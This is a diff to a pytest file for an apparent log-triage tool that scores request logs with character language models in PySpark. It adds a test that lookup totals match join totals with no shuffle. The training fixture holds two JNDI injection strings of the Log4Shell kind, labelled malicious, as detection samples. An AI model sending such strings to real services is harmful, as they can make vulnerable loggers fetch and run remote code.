@@ -5,9 +5,11 @@ from collections import Counter
 
 import numpy as np
 import pytest
+from pyspark.sql import functions as F
 
 from logtriage.operators import charlm as LM
 from logtriage.operators import epochs as EP
+from logtriage.plans.request_logs import request_logs
 
 TRAIN = [
     (1, "${jndi:ldap://h/a}", 1), (2, "${jndi:rmi://x/b}", 1), (3, "GET /index HTTP/1.1", 0), (4, "GET /a?b=c HTTP/1.1", 0),
@@ -105,3 +107,19 @@ def test_epochs_need_both_labels_and_a_validation_split(spark):
     for train, val in ((rows.where("label = 1"), rows), (rows, rows.limit(0))):
         with pytest.raises(ValueError, match="both labels"):
             EP.fit_epochs(train, val, "raw", "log_id", bits=8)
+
+
+def test_lookups_equal_joins_and_move_no_rows(spark, sf):
+    """Sums that tasks look up are those of the join with the table of weights, and scoring has no shuffle."""
+    logs = LM.with_features(request_logs(spark, sf)).cache()
+    odd = ["", None, "x", "é", chr(0x1F600) * 3 + "ab", "\x02\x02\x03", "never seen: ÿþý", "GET /" + "a" * 5000]
+    texts = spark.createDataFrame(list(enumerate(odd, start=10**6)), "log_id bigint, text string")
+    first = logs.orderBy("log_id").limit(1).select("signals").crossJoin(texts)
+    rows = first.select("log_id", F.col("text").alias("raw_log"), F.col("text").alias("normalized_log"), "signals")
+    rows = rows.unionByName(logs.where("log_id % 20 = 0").select(rows.columns))
+    for variant in LM.VARIANTS:
+        model = LM.fit(logs.where("split = 'train'"), variant)
+        found = LM.totals(rows, model, ["log_id"])
+        assert sorted(map(tuple, found.collect())) == sorted(map(tuple, LM.joined_totals(rows, model, ["log_id"]).collect()))
+        plan = LM.totals(logs, model, ["log_id"])._jdf.queryExecution().executedPlan().toString()
+        assert "Exchange" not in plan.split("InMemoryRelation")[0] and "Join" not in plan.split("InMemoryRelation")[0]
